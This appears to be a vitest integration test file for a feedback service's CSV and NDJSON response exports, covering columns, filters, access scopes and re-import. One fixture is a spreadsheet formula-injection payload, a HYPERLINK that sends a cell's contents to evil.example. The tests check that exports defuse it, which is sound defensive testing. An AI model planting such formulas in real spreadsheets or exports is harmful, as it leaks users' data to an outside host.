import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { NewKey } from "../../../worker/contract/keys.ts";
import { Response as ResponseSchema, ResponsePage } from "../../../worker/contract/responses.ts";
import { type CheckedApi, checkedApi } from "../checked-api.ts";
import { readCsv, readRecords } from "../../unit/http/read-csv.ts";
import { type Collector, startCollector } from "../collector.ts";
import { postAll } from "../scores/answers.ts";

const optionsOf = (...keys: string[]) => keys.map((key) => ({ key, text: { en: key } }));
const HOSTILE = `=HYPERLINK("http://evil.example?"&A1,"Click")`;

/** Keys that every object answers to. */
const AWKWARD = ["valueOf", "constructor", "toString"];

const SURVEYS = [
  {
    touchpoint: "rated",
    question: { metric: "csat", key: "satisfied" },
    followUp: { metric: "choice", key: "why", options: optionsOf("price", "speed", "range"), several: true },
    properties: [
      { key: "plan", type: "string" },
      { key: "items", type: "number" },
      { key: "member", type: "boolean" },
      ...AWKWARD.map((key) => ({ key, type: "string" })),
    ],
  },
  {
    touchpoint: "told",
    question: { metric: "text", key: "missing", text: { en: "?" } },
    properties: [
      { key: "plan", type: "string" },
      { key: "room", type: "string" },
    ],
  },
  { touchpoint: "liked", question: { metric: "thumbs", key: "liked" }, followUp: { metric: "text", key: "more" } },
];

let collector: Collector;
let api: CheckedApi;

beforeAll(async () => {
  collector = await startCollector();
  api = checkedApi(collector);
  const key = await collector.site("shop");
  for (const { touchpoint, ...input } of SURVEYS) await collector.touchpoint("shop", touchpoint, input);
  await postAll(collector, key, "rated", [
    {
      answer: 2,
      followUp: ["range", "price"],
      language: "cs",
      device: "phone",
      path: "/done",
      properties: { plan: "pro", items: -3, member: false },
    },
    { dismissed: true },
    { answer: 5, properties: { plan: "-1+1", items: 0.5, constructor: "Tesla" } },
  ]);
  await postAll(collector, key, "told", [
    { answer: HOSTILE, properties: { room: "a,b" } },
    { answer: 'Two\nlines, and "quotes"' },
    { answer: "Příliš žluťoučký 🐎" },
  ]);
  await postAll(collector, key, "liked", [
    { answer: 0, followUp: "'=1" },
    { answer: 1, followUp: "+420 777 123 456" },
  ]);
  const other = await collector.site("other");
  await collector.touchpoint("other", "liked", { question: { metric: "thumbs", key: "liked" } });
  await postAll(collector, other, "liked", [{ answer: 1 }]);
  for (const word of ["bug", "to do"]) {
    const [one] = await listed("touchpoint=told");
    await api.call("PUT", `/sites/shop/touchpoints/told/responses/${one?.id}/tags/${encodeURIComponent(word)}`);
  }
});
afterAll(async () => collector.close());

async function listed(query = ""): Promise<ResponseSchema[]> {
  return (await api.read(ResponsePage, `/sites/shop/responses?limit=200&${query}`)).responses;
}

async function file(path: string): Promise<{ text: string; headers: Headers }> {
  const { status, headers, body } = await api.call("GET", path);
  expect([status, typeof body]).toEqual([200, "string"]);
  return { text: String(body), headers };
}

const byId = (one: { id?: string }, other: { id?: string }) => ((one.id ?? "") < (other.id ?? "") ? -1 : 1);
const linesOf = (text: string) =>
  text
    .split("\n")
    .slice(0, -1)
    .map((line) => ResponseSchema.strict().parse(JSON.parse(line)));

/** A response as cells, written here by hand. */
function recordOf(one: ResponseSchema): Record<string, string> {
  const plain = (value: string | number | boolean | null | undefined) => String(value ?? "");
  const cell = (value: string | number | boolean | string[] | undefined) =>
    Array.isArray(value)
      ? value.join(";")
      : typeof value === "string"
        ? value.replace(/^(?='*[=+\-@])/, "'")
        : plain(value);
  const own = new Map(Object.entries(one.properties));
  return {
    id: one.id,
    touchpoint: one.touchpoint,
    revision: plain(one.revision),
    channel: one.channel,
    shownAt: one.shownAt,
    day: one.day,
    receivedAt: one.receivedAt,
    shown: plain(one.shown),
    dismissed: plain(one.dismissed),
    question: plain(one.answer?.question),
    metric: plain(one.answer?.metric),
    answer: cell(one.answer?.value),
    band: plain(one.band),
    followUpQuestion: plain(one.followUp?.question),
    followUpMetric: plain(one.followUp?.metric),
    followUp: cell(one.followUp?.value),
    language: plain(one.language),
    device: plain(one.device),
    country: plain(one.country),
    path: plain(one.path),
    tags: cell(one.tags),
    generated: plain(one.generated),
    "properties.plan": cell(one.properties["plan"]),
    "properties.items": cell(one.properties["items"]),
    "properties.member": cell(one.properties["member"]),
    ...Object.fromEntries(AWKWARD.map((key) => [`properties.${key}`, plain(own.get(key))])),
    "properties.room": cell(one.properties["room"]),
  };
}

const only = (columns: readonly string[], record: Record<string, string>) =>
  Object.fromEntries(Object.entries(record).filter(([name]) => columns.includes(name)));

describe("responses as CSV", () => {
  it("have a column for everything and for each declared property, and a line for each response", async () => {
    const { text, headers } = await file("/sites/shop/responses.csv");
    expect(headers.get("content-type")).toBe("text/csv; charset=utf-8");
    const records = readRecords(text).toSorted(byId);
    expect(records).toEqual((await listed()).toSorted(byId).map(recordOf));
    expect(records).toHaveLength(8);
    expect(readCsv(text)[0]?.join(",")).toBe(
      Object.keys(recordOf((await listed())[0] ?? ResponseSchema.parse({}))).join(","),
    );
  });

  it("run nothing in a spreadsheet, and leave numbers as they are", async () => {
    const { text } = await file("/sites/shop/responses.csv");
    const cells = readCsv(text).flat();
    expect(cells).toEqual(expect.arrayContaining([`'${HOSTILE}`, "'+420 777 123 456", "''=1", "'-1+1", "-3", "0.5"]));
    expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual(["-3"]);
    expect(cells).toEqual(expect.arrayContaining(["price;range", "bug;to do", 'Two\nlines, and "quotes"']));
  });

  it("have the properties of the touchpoint alone where one is asked for", async () => {
    const { text } = await file("/sites/shop/responses.csv?touchpoint=told");
    const properties = readCsv(text)[0]?.filter((name) => name.startsWith("properties."));
    expect(properties).toEqual(["properties.plan", "properties.room"]);
  });

  it("begin with a byte order mark where that is asked for", async () => {
    const bytes = async (query: string) =>
      new Uint8Array(await (await collector.api("GET", `/sites/shop/responses.csv${query}`)).arrayBuffer());
    const [plain, marked] = [await bytes(""), await bytes("?bom=true")];
    expect(Array.from(marked.slice(0, 3))).toEqual([0xef, 0xbb, 0xbf]);
    expect(marked.slice(3)).toEqual(plain);
  });

  it("are a header line where there are none", async () => {
    const { text } = await file("/sites/shop/responses.csv?from=2020-01-01&to=2020-01-31");
    expect(readCsv(text)).toHaveLength(1);
  });
});

describe("responses as NDJSON", () => {
  it("are the responses of the list, touchpoint by touchpoint, oldest first", async () => {
    const { text, headers } = await file("/sites/shop/responses.ndjson");
    expect(headers.get("content-type")).toBe("application/x-ndjson; charset=utf-8");
    const lines = linesOf(text);
    expect(lines.toSorted(byId)).toEqual((await listed()).toSorted(byId));
    expect(lines.map((one) => one.touchpoint).join(" ")).toBe("rated rated rated told told told liked liked");
  });

  it("are an empty file where there are none", async () => {
    expect((await file("/sites/shop/responses.ndjson?from=2020-01-01&to=2020-01-31")).text).toBe("");
  });
});

describe("a file of responses", () => {
  it.each([
    "touchpoint=told",
    "band=positive",
    "hasComment=true",
    "search=%C5%98%C3%8DLI%C5%A0",
    "tag=bug",
    "property=items:0.5",
    "minRating=2&device=phone",
    "search=nowhere",
  ])("has what the list has with the same filter: %s", async (query) => {
    const expected = (await listed(query)).toSorted(byId);
    expect(linesOf((await file(`/sites/shop/responses.ndjson?${query}`)).text).toSorted(byId)).toEqual(expected);
    const records = readRecords((await file(`/sites/shop/responses.csv?${query}`)).text);
    const columns = Object.keys(records[0] ?? {});
    expect(records.toSorted(byId)).toEqual(expected.map((one) => only(columns, recordOf(one))));
  });

  it("has the name of its site and period, and is kept by nobody on the way", async () => {
    const { headers } = await file("/sites/shop/responses.csv?from=2026-01-01&to=2026-01-31");
    expect(headers.get("content-disposition")).toBe('attachment; filename="shop-responses-2026-01-01-2026-01-31.csv"');
    expect(headers.get("cache-control")).toBe("no-store");
    expect(headers.get("link")).toBe(null);
  });

  it.each(["responses.csv", "responses.ndjson"])("needs the scope and the site: %s", async (name) => {
    const keyOf = async (scope: string, site: string) => {
      const reply = await api.call("POST", "/keys", { body: { name: "k", scopes: [scope], site } });
      return NewKey.parse(reply.body).secret;
    };
    const path = `/sites/shop/${name}`;
    const refused = async (key: string) => api.refused("GET", path, { key });
    expect(await refused(await keyOf("scores:read", "shop"))).toMatchObject({ status: 403, code: "scope-missing" });
    expect(await refused(await keyOf("responses:read", "other"))).toMatchObject({ status: 404, code: "unknown-site" });
    expect((await api.call("GET", path, { key: await keyOf("responses:read", "shop") })).status).toBe(200);
    const gone = await api.refused("GET", `${path}?touchpoint=nowhere`);
    expect(gone).toMatchObject({ status: 404, code: "unknown-touchpoint" });
  });

  it.each([
    ["responses.csv?bom=yes", "/query/bom"],
    ["responses.ndjson?bom=true", "/query/bom"],
    ["responses.csv?limit=5", "/query/limit"],
    ["responses.csv?cursor=x", "/query/cursor"],
    ["responses.ndjson?from=2026-02-30", "/query/from"],
  ])("is refused with 422 and the path: %s", async (path, fault) => {
    const refused = await api.refused("GET", `/sites/shop/${path}`);
    expect(refused).toEqual({ status: 422, code: "invalid-request", paths: [fault] });
  });
});

describe("a file of responses, taken in by another site", () => {
  it.each([
    ["responses.csv", "text/csv; charset=utf-8"],
    ["responses.csv?bom=true", "text/csv; charset=utf-8"],
    ["responses.ndjson", "application/x-ndjson"],
  ])("has every answer as it was given: %s", async (name, type) => {
    const copy = `copy-${name.replaceAll(/[^a-z]+/g, "-")}`;
    await collector.site(copy);
    for (const { touchpoint, ...input } of SURVEYS) await collector.touchpoint(copy, touchpoint, input);
    const { text } = await file(`/sites/shop/${name}`);
    const { status, body } = await api.call("POST", `/sites/${copy}/imports`, { body: text, type });
    expect([status, body]).toMatchObject([200, { rows: 8, imported: 7, unanswered: 1, refused: 0, lines: [] }]);
    const taken = await api.read(ResponsePage, `/sites/${copy}/responses?limit=200`);
    const told = (one: ResponseSchema) => {
      const { id: _, revision: _r, channel: _c, receivedAt: _t, shown: _s, tags: _g, ...rest } = one;
      return JSON.stringify(rest);
    };
    const answered = (await listed()).filter((one) => one.answer !== null);
    expect(taken.responses.map(told).toSorted()).toEqual(answered.map(told).toSorted());
  });
});
